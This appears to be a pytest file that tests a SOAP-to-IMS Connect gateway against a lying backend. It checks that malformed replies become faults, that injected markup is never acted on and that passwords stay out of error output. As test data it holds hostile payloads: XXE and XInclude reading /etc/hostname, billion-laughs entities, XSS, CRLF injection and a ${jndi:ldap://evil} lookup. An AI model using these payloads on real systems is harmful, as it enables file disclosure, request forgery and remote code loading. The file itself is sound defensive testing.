"""An IMS Connect that lies: whatever comes from there, the caller gets a reply of the contract or a fault."""

import struct

import pytest

from gateway.provider.backend import BundleBackend
from tests.fixtures.in_process import LAB, SOAP11, SOAP12, username_token, work
from tests.fixtures.scripted_server import Close, Expect, Forever, Send

CSM = bytes.fromhex("000C00005CC3E2D4D6D2E85C")
GOOD = f'<echo xmlns="{LAB}"><text>good</text></echo>'.encode()
ANY = Expect(lambda _message: True)


def reply(*segments: bytes, csm: bytes = CSM) -> bytes:
    data = b"".join(struct.pack(">HH", 4 + len(segment), 0) + segment for segment in segments) + csm
    return struct.pack(">I", 4 + len(data)) + data


ANSWERS = Forever((ANY, Send(reply(GOOD))))


def cut(data: bytes, size: int = 30_000) -> list[bytes]:
    return [data[start : start + size] for start in range(0, len(data), size)]


def lab(inner: str, before: str = "", after: str = "") -> bytes:
    return f'{before}<echo xmlns="{LAB}">{inner}</echo>{after}'.encode()


HOSTILE_TEXT = {
    "a document type": lab("&x;", '<!DOCTYPE echo [<!ENTITY x SYSTEM "file:///etc/hostname">]>'),
    "laughing entities": lab("&b;", '<!DOCTYPE e [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>'),
    "a processing instruction": lab("<?php echo 1?>"),
    "an end of the envelope": lab("</text></echo></soapenv:Body></soapenv:Envelope>"),
    "two documents": GOOD + GOOD,
    "text behind": GOOD + b"and more",
    "another element": b"<evil xmlns='urn:evil'/>",
    "a fault of its own": f'<e:Fault xmlns:e="{SOAP11}"><faultcode>e:Client</faultcode></e:Fault>'.encode(),
    "an envelope": f'<e:Envelope xmlns:e="{SOAP11}"><e:Body/></e:Envelope>'.encode(),
    "too deep": b"<a>" * 150 + b"</a>" * 150,
    "a namespace without end": lab(f"<x xmlns='{'u' * 20_000}'/>"),
    "no bytes of UTF-8": b"<echo \xff\xfe/>",
    "nothing": b"",
    "low values": bytes(200),
    "UTF-16": GOOD.decode().encode("utf-16"),
    "UTF-16 declared": b"<?xml version='1.0' encoding='UTF-16'?>" + b"<a",
    "a NUL": lab("<text>a\x00b</text>"),
    "an escape": lab("<text>a\x1bb</text>"),
    "half a surrogate": b"<echo>\xed\xa0\x80</echo>",
    "an undeclared prefix": b"<p:echo/>",
    "markup in text": b"<script>alert(1)</script>",
}


@pytest.fixture
def ims(scripted_server, in_process):
    """Return what a gateway answers when IMS Connect answers so: first this, then as it should."""

    def answer(sent: bytes, *, soap: str = SOAP11, close: bool = False):
        script = [ANY, Send(sent), Close() if close else ANSWERS]
        server = scripted_server(script, [ANSWERS])
        gateway = in_process(server.port, services={"lab": {"operations.Echo.socket_timeout_ms": 20_001}})
        first = gateway.post("LabPort", work("echo", "1"), soap=soap)
        second = gateway.post("LabPort", work("echo", "2"))
        return first, second

    return answer


@pytest.mark.parametrize("text", HOSTILE_TEXT.values(), ids=HOSTILE_TEXT)
@pytest.mark.parametrize("soap", [SOAP11, SOAP12], ids=["1.1", "1.2"])
def test_text_that_is_no_reply_of_the_contract_becomes_a_fault_and_the_next_caller_gets_his_own(
    ims, text, soap
):
    first, second = ims(reply(*cut(text)), soap=soap)
    assert first.status == 500
    assert first.message_id in {"IGW2102E", "IGW2103E", "IGW2104E"}
    assert [child.tag for child in first.root] == [f"{{{soap}}}Body"]
    assert len(first.body) < 10_000
    assert second.payload.findtext(f"{{{LAB}}}text") == "good"


@pytest.mark.parametrize(
    "inner",
    [
        "<text xml:base='http://evil.example/'>x</text>",
        "<text xmlns:i='http://www.w3.org/2001/XInclude'><i:include href='/etc/hostname' parse='text'/></text>",
        "<text xmlns:i='http://www.w3.org/2001/XMLSchema-instance' i:schemaLocation='urn:x http://127.0.0.1:9/x'/>",
        "<text><![CDATA[</text></echo><evil/>]]></text>",
        "<text>&lt;/text&gt;&lt;evil/&gt;</text>",
        "<text>&#x85;&#x2028;&#xFFFD;</text>",
        "<!-- </echo><evil/> --><text/>",
        "<text xmlns=''/>",
    ],
)
def test_what_xml_can_hold_is_passed_on_as_text_and_acted_on_by_nobody(ims, inner):
    first, _ = ims(reply(lab(inner)))
    assert first.status == 200
    assert not [node for node in first.root.iter() if node.tag in {"evil", f"{{{LAB}}}evil"}]
    assert first.payload.tag == f"{{{LAB}}}echo"
    assert b"root:" not in first.body


@pytest.mark.parametrize(
    "words",
    [
        b"<script>alert(1)</script> & ]]>",
        b"\x00\x1b[31m\r\nX-Injected: 1\x85",
        b"{text} {0} %s %n ${jndi:ldap://evil}",
        b"\xc2\x9b31m \xe2\x80\xae",
    ],
)
def test_a_message_of_ims_is_shown_harmlessly(ims, words):
    first, second = ims(reply(b"DFS064I " + words))
    assert (first.status, first.message_id) == (500, "IGW2009E")
    assert not set(first.body) & {0x00, 0x1B, 0x0D, 0x85, 0x9B}
    assert b"<script>" not in first.body
    assert second.status == 200


@pytest.mark.parametrize(
    "sent",
    [
        b"\x00\x00\x00\x00",
        b"\xff\xff\xff\xff",
        b"\x7f\xff\xff\xff" + b"A" * 100,
        b"\x00\x00\x00\x10" + b"\x00" * 12,
        b"HTTP/1.1 200 OK\r\n\r\n",
        reply(GOOD)[:-1] + b"\x00",
        reply(GOOD) + b"\x00",
        reply(GOOD) + reply(GOOD),
        reply(GOOD, csm=bytes.fromhex("000C20005CC3E2D4D6D2E85C")),
        reply(GOOD, csm=bytes.fromhex("000D00005CC3E2D4D6D2E85C00")),
        struct.pack(">I", 24) + bytes.fromhex("001400005CD9C5D8E2E3E25C0000000400000061"),
    ],
)
def test_bytes_that_break_the_protocol_cost_the_socket_and_one_fault(ims, sent):
    first, second = ims(sent)
    assert (first.status, first.message_id) == (500, "IGW2005E")
    assert second.payload.findtext(f"{{{LAB}}}text") == "good"


@pytest.mark.parametrize("size", [0, 1, 3, 4, 5, 20, 60])
def test_a_reply_that_ends_early_is_no_reply_and_nothing_is_sent_again(ims, size):
    first, second = ims(reply(GOOD)[:size], close=True)
    assert (first.status, first.message_id) == (500, "IGW2003E")
    assert second.status == 200


def test_neither_the_password_nor_the_message_stands_in_what_is_told_of_a_failure(scripted_server, in_process):
    server = scripted_server([ANY, Send(b"\x00\x00\x00\x00")])
    gateway = in_process(server.port)
    answer = gateway.post("SecureLabPort", work("echo", "C0NFID"), username_token("ALICE", "WONDER1"))
    told = answer.body.decode() + repr(gateway.events.events) + repr(gateway.runtime.live.current.holds)
    assert "WONDER1" not in told
    assert "C0NFID" not in told
    assert isinstance(gateway.runtime.live.current.holds["ims1"].backend, BundleBackend)
